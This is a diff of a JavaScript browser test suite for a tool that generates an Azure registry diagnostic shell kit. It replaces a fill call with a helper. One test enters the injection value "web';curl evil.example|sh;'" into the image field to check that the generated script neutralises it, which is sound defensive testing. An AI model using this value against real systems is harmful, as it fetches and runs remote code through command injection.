@@ -11,7 +11,7 @@ import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
 import net from 'node:net';
-import { useBrowser, openPage, paste, verdict, readFindings, artifacts, entraToken } from './harness.mjs';
+import { useBrowser, openPage, paste, verdict, readFindings, artifacts, entraToken, fillIn } from './harness.mjs';
 import { FRONT, STOPPED, DATA_ENDPOINT, DATA_ENDPOINT_TLS, PROXY, HTTPS_FRONT, RECORDER } from './ports.mjs';
 
 const shared = useBrowser();
@@ -106,7 +106,7 @@ function fakeAz() {
 /** The kit the page shows for a registry and an image, run by a shell with these variables. */
 async function runKit(page, registry, image, env = {}, shell = 'sh') {
   await page.fill('[data-testid=registry-input]', registry);
-  await page.fill('[data-testid=repository-input]', image);
+  await fillIn(page, '[data-testid=repository-input]', image);
   await page.click('[data-testid=kit] summary');
   const script = await page.$eval('[data-testid=kit-sh]', (e) => e.textContent);
   const file = path.join(fs.mkdtempSync(path.join(os.tmpdir(), 'kit-')), 'acr-doctor-kit.sh');
@@ -220,7 +220,7 @@ test('TLS to the registry: the certificate\'s issuer and names, trusted or not',
 test('the kit for an Azure registry, and what a hostile image field cannot do', async () => {
   const { page, context } = await openPage(shared.browser, shared.base);
   await page.fill('[data-testid=registry-input]', 'contoso');
-  await page.fill('[data-testid=repository-input]', "web';curl evil.example|sh;'");
+  await fillIn(page, '[data-testid=repository-input]', "web';curl evil.example|sh;'");
   await page.click('[data-testid=kit] summary');
   const script = await page.$eval('[data-testid=kit-sh]', (e) => e.textContent);
   assert.match(script, /^ORIGIN='https:\/\/contoso\.azurecr\.io'$/m);
